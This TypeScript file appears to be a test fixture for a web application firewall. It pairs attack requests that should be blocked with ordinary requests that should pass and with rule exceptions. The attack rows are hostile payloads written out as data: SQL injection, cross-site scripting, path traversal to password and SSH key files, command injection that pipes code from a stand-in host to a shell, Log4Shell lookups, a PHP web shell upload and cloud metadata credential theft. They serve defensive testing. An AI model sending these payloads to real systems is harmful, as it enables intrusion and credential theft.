// Requests as attackers and as people send them, for the rules as somebody has them who wants attacks blocked and has read no further: paranoia level 1.
import type { Case } from "./cases.ts"
import { type Input, requestOf } from "./request.ts"

export type Row = readonly [what: string, request: Input]

const browser = {
  Host: "shop.example.com",
  "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
  Accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}
const get = (uri: string, headers = {}): Input => ({ uri, headers: { ...browser, ...headers } })
const send = (method: string, uri: string, type: string, data: string, headers = {}): Input => ({
  method,
  uri,
  data,
  headers: { ...browser, "Content-Type": type, ...headers },
})
const form = (data: string) => send("POST", "/login", "application/x-www-form-urlencoded", data)
const json = (uri: string, data: unknown, headers = {}) =>
  send("POST", uri, "application/json", JSON.stringify(data), headers)
const boundary = "----formboundary7MA4YWxk"
const upload = (file: string, type: string, content: string) =>
  send(
    "POST",
    "/upload",
    `multipart/form-data; boundary=${boundary}`,
    `--${boundary}\nContent-Disposition: form-data; name="title"\n\nSummer\n--${boundary}\nContent-Disposition: form-data; name="file"; filename="${file}"\nContent-Type: ${type}\n\n${content}\n--${boundary}--\n`,
  )

/** Blocked. */
export const attacks: readonly Row[] = [
  ["SQL: union in the query", get("/items?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20accounts--")],
  ["SQL: always true", get("/items?id=1%27%20OR%20%271%27=%271")],
  ["SQL: a pause", get("/items?id=1;SELECT%20pg_sleep(10)--")],
  ["SQL: in a form", form("user=admin%27+OR+1%3D1--+-&password=x")],
  ["SQL: in JSON", json("/api/search", { filter: { name: "x' UNION SELECT card FROM payments-- -" } })],
  ["SQL: in a cookie", get("/", { Cookie: "id=1' UNION SELECT NULL,version()-- -" })],
  ["SQL: stacked statements", get("/items?sort=name;DROP%20TABLE%20orders--")],
  ["scripting: an element", get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")],
  ["scripting: a handler", get("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E")],
  ["scripting: a javascript: address", get("/go?to=javascript:alert(document.domain)")],
  ["scripting: in JSON", json("/api/comments", { text: "<svg onload=fetch('//evil.test')>" })],
  ["scripting: in Referer", get("/", { Referer: "https://a.test/<script>alert(1)</script>" })],
  ["scripting: encoded twice", get("/search?q=%253Cscript%253Ealert(1)%253C/script%253E")],
  ["files: climbing out", get("/download?file=../../../../etc/passwd")],
  ["files: climbing out, encoded", get("/download?file=..%2f..%2f..%2fetc%2fshadow")],
  ["files: an absolute name", get("/download?file=/etc/passwd")],
  ["files: .env", get("/.env")],
  ["files: the repository", get("/.git/config")],
  ["files: keys of a user", get("/download?file=/home/app/.ssh/id_rsa")],
  ["files: PHP's filters", get("/?page=php://filter/convert.base64-encode/resource=index.php")],
  ["remote file", get("/?page=http://203.0.113.7/shell.txt?")],
  ["commands: one behind another", get("/ping?host=127.0.0.1;cat%20/etc/passwd")],
  ["commands: in $()", get("/ping?host=$(curl%20evil.test/x|sh)")],
  ["commands: in backticks", form("host=%60wget+http%3A%2F%2Fevil.test%2Fx%60")],
  ["commands: of Windows", get("/ping?host=1%26powershell.exe%20-enc%20SQBFAFgA")],
  ["commands: Shellshock", get("/cgi-bin/status", { "User-Agent": "() { :; }; /bin/bash -c 'id'" })],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers write
  ["Log4Shell in a field", get("/", { "X-Api-Version": "${jndi:ldap://evil.test/a}" })],
  ["Log4Shell in the query", get("/?x=$%7Bjndi:ldap://evil.test/a%7D")],
  ["Log4Shell, in disguise", get("/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.test/a%7D")],
  ["PHP: a call", get("/?cmd=%3C?php%20system($_GET[%27c%27]);?%3E")],
  ["PHP: an object", form('data=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}')],
  ["PHP: a shell is uploaded", upload("shell.php", "image/png", "<?php system($_GET['c']); ?>")],
  ["Java: a class", get("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")],
  ["Java: a process", form("expression=%23%7BT(java.lang.Runtime).getRuntime().exec('id')%7D")],
  ["Node: a process", form("code=require('child_process').exec('id')")],
  ["prototype pollution", json("/api/settings", { __proto__: 1, "constructor.prototype.isAdmin": true })],
  [
    "the cloud's metadata",
    get("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
  ],
  ["a session that is forced on somebody", get("/?p=.cookie;expires=Wednesday;%20domain=evil.test")],
  ["a field in the answer", get("/go?to=%0d%0aSet-Cookie:%20session=evil")],
  ["a request within a request", form("x=1%0d%0aGET+/admin+HTTP/1.1%0d%0aHost:+internal")],
  ["a scanner: sqlmap", get("/", { "User-Agent": "sqlmap/1.8#stable (https://sqlmap.org)" })],
  [
    "a scanner: nikto",
    get("/", { "User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)" }),
  ],
  ["LDAP", get("/users?name=*)(uid=*))(|(uid=*")],
  ["a byte 0", get("/download?file=report.pdf%00.jpg")],
]

/** Not blocked. */
export const ordinary: readonly Row[] = [
  ["a page", get("/")],
  ["a page with a query", get("/products?category=garden&sort=price&page=2")],
  ["an apostrophe in a name", get("/search?q=O%27Reilly")],
  ["words that SQL has, too", get("/search?q=select+a+seat+from+the+list")],
  ["a formula", get("/search?q=a+%3C+b+and+c+%3E+d")],
  [
    "letters of many languages",
    get("/search?q=%E6%9D%B1%E4%BA%AC+caf%C3%A9+%D0%BC%D0%BE%D1%81%D0%BA%D0%B2%D0%B0"),
  ],
  ["a part of a file", get("/video.mp4", { Range: "bytes=0-1048575" })],
  [
    "what is known already",
    get("/style.css", { "If-None-Match": '"5f3-abc"', "If-Modified-Since": "Wed, 21 Oct 2026 07:28:00 GMT" }),
  ],
  [
    "cookies of statistics and of a session",
    get("/", {
      Cookie:
        "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl; theme=dark",
    }),
  ],
  [
    "a token",
    get("/api/me", {
      Authorization: "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJqYW5lIn0.c2lnbmF0dXJl",
    }),
  ],
  ["OAuth: the way back", get("/callback?code=4/0AX4XfWh&state=af0ifjsldkj&session_state=b2c1")],
  [
    "OAuth: the way there",
    get(
      "/authorize?response_type=code&client_id=web&scope=openid%20profile&redirect_uri=https%3A%2F%2Fshop.example.com%2Fcallback",
    ),
  ],
  [
    "before a request to another origin",
    {
      method: "OPTIONS",
      uri: "/api/orders",
      headers: { ...browser, Origin: "https://app.example.com", "Access-Control-Request-Method": "POST" },
    },
  ],
  [
    "WebSocket",
    get("/socket", {
      Connection: "Upgrade",
      Upgrade: "websocket",
      "Sec-WebSocket-Version": "13",
      "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }),
  ],
  ["events", get("/events", { Accept: "text/event-stream", "Cache-Control": "no-cache" })],
  ["a host that is an address", get("/", { Host: "203.0.113.9" })],
  ["a health check", get("/healthz", { "User-Agent": "kube-probe/1.34", Accept: "*/*" })],
  ["a form", form("user=jane%40example.com&password=correct+horse+battery+staple%21")],
  [
    "a comment of three lines",
    form("text=Thanks%21+It+works.%0D%0ABut%3A+how+do+I+change+the+colour%3F%0D%0A-+Jane"),
  ],
  [
    "JSON: an order",
    json("/api/orders", {
      items: [
        { sku: "A-1", count: 2 },
        { sku: "B/2", count: 1 },
      ],
      note: "ring twice; leave at Smith's",
      total: 12.5,
    }),
  ],
  ["JSON: nested deep", json("/api/layout", { a: { b: { c: { d: [{ e: [1, 2, [3]] }] } } } })],
  [
    "JSON: a date and an address",
    json("/api/users", {
      born: "1990-02-28T00:00:00Z",
      mail: "jane+shop@example.com",
      site: "https://jane.example.com/about?x=1",
    }),
  ],
  [
    "JSON: rows of numbers",
    json(
      "/api/metrics",
      Array.from({ length: 200 }, (_, at) => at / 7),
    ),
  ],
  ["GraphQL: a query", json("/graphql", { query: "{ orders(first: 10) { id total } }" })],
  [
    "GraphQL: a change",
    json("/graphql", { query: 'mutation { addToCart(sku: "A-1", count: 2) { cart { total } } }' }),
  ],
  [
    "an upload: a picture",
    upload("holiday 2026.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0 JFIF not much of a picture"),
  ],
  ["an upload: a document", upload("report.pdf", "application/pdf", "%PDF-1.7 1 0 obj endobj trailer")],
  ["an upload: a table", upload("prices.csv", "text/csv", "sku,price\nA-1,9.99\nB/2,12.50")],
  [
    "XML",
    send("POST", "/soap", "text/xml", '<?xml version="1.0"?><order><sku>A-1</sku><count>2</count></order>'),
  ],
]

/** No attacks, but blocked all the same, unless {@link exceptions} are made. */
export const unusual: readonly Row[] = [
  ["PUT", send("PUT", "/api/orders/1", "application/json", '{"count":3}')],
  ["PATCH", send("PATCH", "/api/orders/1", "application/json", '{"count":3}')],
  ["DELETE", { method: "DELETE", uri: "/api/orders/1", headers: browser }],
  ["bytes", send("POST", "/blobs", "application/octet-stream", "0123456789")],
  ["plain text", send("POST", "/notes", "text/plain", "milk, bread")],
  ["gRPC for browsers", send("POST", "/shop.Orders/List", "application/grpc-web+proto", "0123456789")],
  [
    "GraphQL: a query with variables and nodes",
    json("/graphql", {
      query: "query Orders($first: Int!) { orders(first: $first) { edges { node { id total } } } }",
      variables: { first: 10 },
      operationName: "Orders",
    }),
  ],
]

/** What somebody says who serves those. */
export const exceptions = String.raw`
SecAction "id:1001,phase:1,pass,nolog,t:none,\
  setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE',\
  setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |application/json| \
|application/octet-stream| |application/grpc-web+proto| |text/plain|'"

SecRule REQUEST_URI "@beginsWith /graphql" "id:1002,phase:1,pass,nolog,t:none,\
  ctl:ruleRemoveTargetById=932235;ARGS:json.query,ctl:ruleRemoveTargetById=942290;ARGS:json.query"
`

/** Tests of the rows, which expect this status. */
export const casesOf = (rows: readonly Row[], status: number): Case[] =>
  rows.map(([name, request]) => ({
    name,
    stages: [{ bytes: requestOf(request), expected: { status, ids: [], noIds: [], mayFail: false } }],
  }))
